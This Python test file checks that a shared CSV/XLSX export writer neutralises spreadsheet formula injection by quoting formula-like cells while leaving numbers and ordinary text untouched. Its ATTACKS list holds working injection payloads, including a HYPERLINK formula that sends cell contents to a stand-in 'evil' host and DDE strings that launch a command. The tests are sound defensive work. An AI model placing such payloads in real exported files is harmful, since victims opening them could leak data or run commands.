"""The shared CSV/XLSX writer neutralises formula-like text and leaves numbers alone."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from reviewapp.tabular import csv_line, csv_text, safe_cell, xlsx_bytes

ATTACKS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_like_cell_goes_out_as_text(text):
    assert safe_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO(csv_line(["title", text]))))
    assert row == ["title", "'" + text]


@pytest.mark.parametrize("value", [-0.5, 3, 0, 2.5e-7, None, True, "-0.5", "+3", "-1.2e-3", "Parent-infant",
                                   "a=b", "", "10.1000/x"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_text_keeps_numbers_as_numbers():
    assert csv_text([["box", "count"], ["records_identified", 12], ["effect", -0.5]]) == (
        "box,count\r\nrecords_identified,12\r\neffect,-0.5\r\n")


def test_xlsx_stores_attacks_as_text_and_numbers_as_numbers():
    data = xlsx_bytes({"records": [["title", "yi"], [ATTACKS[0], -0.5], ["-0.5", 2]]})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    title = sheet["A2"]
    assert title.data_type == "s" and title.value == "'" + ATTACKS[0]
    assert sheet["B2"].value == -0.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "-0.5" and sheet["B3"].value == 2
